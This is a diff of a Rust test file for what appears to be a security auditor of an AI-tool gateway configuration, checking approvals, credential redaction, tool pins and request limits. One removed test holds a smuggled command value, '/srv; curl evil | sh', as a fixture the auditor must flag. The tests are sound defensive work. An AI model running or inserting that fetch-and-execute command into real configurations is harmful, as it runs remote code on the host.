@@ -482,7 +482,7 @@ async fn a_probe_that_sees_an_allow_turns_fail_closed_red() {
     let mut ix = super::checks::Index::default();
     let findings = super::checks::findings(&reg, &probes, &mut ix);
     let servers = super::checks::server_gates(&reg, &mut ix);
-    let r = super::assemble(&reg, false, findings, servers, ix);
+    let r = super::assemble::assemble(&reg, false, findings, servers, ix);
     let f = finding(&r, "fail.store_error");
     assert_eq!(
         (f.status, f.severity),
@@ -497,6 +497,24 @@ async fn a_probe_that_sees_an_allow_turns_fail_closed_red() {
         .find(|a| a.key == "fail_closed")
         .unwrap();
     assert_eq!(area.score, 0);
+}
+
+#[tokio::test]
+async fn offline_fingerprint_checks_are_static_only() {
+    let text = CLEAN.replace(
+        "servers:\n",
+        "servers:\n  web:\n    url: https://web.example.com/mcp\n    tools: { fetch: { class: read } }\n    pin: { fetch: \"sha256:0000000000000000000000000000000000000000000000000000000000000000\" }\n",
+    );
+    let r = audit_of(&text).await;
+    let f = finding(&r, "onboard.fingerprints");
+    assert!(f.static_only, "{f:?}");
+    assert!(
+        r.evidence.iter().any(|e| e.source
+            == "probe: upstream tool definitions against their pins"
+            && e.static_only),
+        "{:?}",
+        r.evidence
+    );
 }
 
 #[tokio::test]
@@ -522,170 +540,4 @@ async fn offline_reports_mark_live_checks_static_only() {
     assert!(!html.contains("href=\"http"));
 }
 
-#[test]
-fn html_text_is_escaped_and_backticks_become_code() {
-    use super::render::text;
-    assert_eq!(
-        text("set `a<b>` & go"),
-        "set <code>a&lt;b&gt;</code> &amp; go"
-    );
-    assert_eq!(text("one ` left <x>"), "one ` left &lt;x&gt;");
-    assert_eq!(text("<script>\"'"), "&lt;script&gt;&quot;&#39;");
-}
-
-#[tokio::test]
-async fn runtime_key_grants_unbounded_by_config_are_flagged() {
-    let r = audit_of(&flip("  require: [org]", "  require: []")).await;
-    assert_flagged(
-        &r,
-        "onboard.source_of_truth",
-        "onboarding",
-        "t.yaml:5:12 `identity.require`",
-    );
-    // With a required level whose grants live in the config, keys cannot reach beyond it.
-    assert_eq!(
-        finding(&audit_of(CLEAN).await, "onboard.source_of_truth").status,
-        Status::Pass
-    );
-}
-
-#[tokio::test]
-async fn approvals_off_without_write_tools_is_no_gap() {
-    let reads = flip("      create_note:", "      get_note: { class: read }")
-        .replace("\"notes/create_note\"", "\"notes/get_note\"");
-    let r = audit_of(&format!("{reads}approvals: {{ required_from: none }}\n")).await;
-    assert_eq!(finding(&r, "rbac.approvals").status, Status::Pass);
-}
-
-#[tokio::test]
-async fn urls_are_cited_without_credentials_or_queries() {
-    let text = CLEAN
-        .replace(
-            "http://127.0.0.1:4318",
-            "https://otel.example.com:4318?token=abc123",
-        )
-        .replace(
-            "listen: 127.0.0.1:8080",
-            "listen: 0.0.0.0:8080\npublic_url: http://gw.example.com",
-        );
-    let r = audit_of(&text).await;
-    // A password inside a URL does not load at all, and the error does not repeat it.
-    let with_password = text.replace(
-        "http://gw.example.com",
-        "http://u:hunter2hunter2@gw.example.com",
-    );
-    let e = registry::load_str("t.yaml", &with_password)
-        .unwrap_err()
-        .to_string();
-    assert!(
-        e.contains("a password inside a URL") && !e.contains("hunter2"),
-        "{e}"
-    );
-    let json = serde_json::to_string(&r).unwrap();
-    for leaked in ["s3cr3tpassw0rd", "abc123", "hunter2hunter2"] {
-        assert!(!json.contains(leaked), "{leaked} repeated");
-        assert!(!super::markdown(&r).contains(leaked));
-        assert!(!super::html(&r).contains(leaked));
-    }
-    assert!(json.contains("https://otel.example.com:4318?…"));
-}
-
-#[tokio::test]
-async fn shell_syntax_in_a_stdio_argument_fails_the_ci_gate_and_is_cited() {
-    let text = CLEAN
-        .replace(
-            "  notes:\n    builtin: notes\n",
-            &format!(
-                "  files:\n    command: {{ program: /bin/echo, integrity: \"sha256:{}\", args: [\"--root\", \"/srv; curl evil | sh\"] }}\n    tools: {{ read_file: {{ class: read }} }}\n  notes:\n    builtin: notes\n",
-                "ab".repeat(32)
-            ),
-        )
-        .replace(
-            "\"notes/create_note\"]",
-            "\"notes/create_note\", \"files/read_file\"]",
-        );
-    let r = audit_of(&text).await;
-    assert_ne!(finding(&r, "onboard.ci_gate").status, Status::Pass);
-    let cites = cited(&r, "onboard.ci_gate").join("\n");
-    assert!(
-        cites.contains("servers.files.command.args[1]") && cites.contains("shell metacharacter"),
-        "{cites}"
-    );
-}
-
-#[tokio::test]
-async fn a_static_upstream_secret_is_reported_as_one_and_apart_from_none() {
-    let text = CLEAN.replace(
-        "  notes:\n    builtin: notes\n",
-        &format!(
-            "  web:\n    url: https://tools.example.com/mcp\n    credentials: {{ bearer: env:WEB_TOKEN }}\n    tools: {{ fetch_page: {{ class: read }} }}\n    pin: {{ fetch_page: \"sha256:{p}\" }}\n  bare:\n    url: https://bare.example.com/mcp\n    tools: {{ list_items: {{ class: read }} }}\n    pin: {{ list_items: \"sha256:{p}\" }}\n  notes:\n    builtin: notes\n",
-            p = "ab".repeat(32)
-        ),
-    );
-    let r = audit_of(&text).await;
-    let cites = cited(&r, "id.token_exchange").join("\n");
-    assert!(
-        cites.contains("servers.web.credentials")
-            && cites
-                .contains("a static secret by reference (`authorization` from `env:WEB_TOKEN`)"),
-        "{cites}"
-    );
-    assert!(
-        cites.contains("no credential: the upstream is reached with none"),
-        "{cites}"
-    );
-    assert!(!cites.contains("no credentials configured"), "{cites}");
-    let found = &finding(&r, "id.token_exchange").found;
-    assert!(
-        found.contains("1 get a static secret by reference and 1 none"),
-        "{found}"
-    );
-}
-
-#[tokio::test]
-async fn a_checklist_area_says_what_its_score_means() {
-    let why = |r: &Report, key: &str| {
-        let a = r.checklist.areas.iter().find(|a| a.key == key).unwrap();
-        (a.score, a.why.clone())
-    };
-    let r = audit_of(CLEAN).await;
-    let (score, text) = why(&r, "tool_approval");
-    assert_eq!(score, 2);
-    assert!(
-        text.starts_with("write and destructive tools wait for a human"),
-        "{text}"
-    );
-    // With approvals off, the sentence no longer claims them.
-    let off = audit_of(&format!("{CLEAN}approvals: {{ required_from: none }}\n")).await;
-    let (score, text) = why(&off, "tool_approval");
-    assert!(score < 2, "{score}");
-    assert!(!text.contains("wait for a human, bound"), "{text}");
-    let (score, text) = why(&off, "prompt_injection");
-    assert_eq!(score, 1);
-    assert!(
-        !text.contains("and human approval for state changes"),
-        "{text}"
-    );
-}
-
-#[tokio::test]
-async fn a_body_limit_raised_far_past_the_default_is_a_finding() {
-    let r = audit_of(CLEAN).await;
-    assert_eq!(finding(&r, "cost.request_bounds").status, Status::Pass);
-    let raised = format!("{CLEAN}http: {{ max_body: 1024MiB }}\n");
-    let r = audit_of(&raised).await;
-    let f = finding(&r, "cost.request_bounds");
-    assert_eq!(f.status, Status::Partial);
-    assert!(
-        f.title.contains("`http.max_body` is 1024 MiB"),
-        "{}",
-        f.title
-    );
-    assert!(
-        cited(&r, "cost.request_bounds")
-            .iter()
-            .any(|c| c.contains("`http.max_body`") && c.contains("1073741824 bytes")),
-        "{:?}",
-        cited(&r, "cost.request_bounds")
-    );
-}
+mod shape;
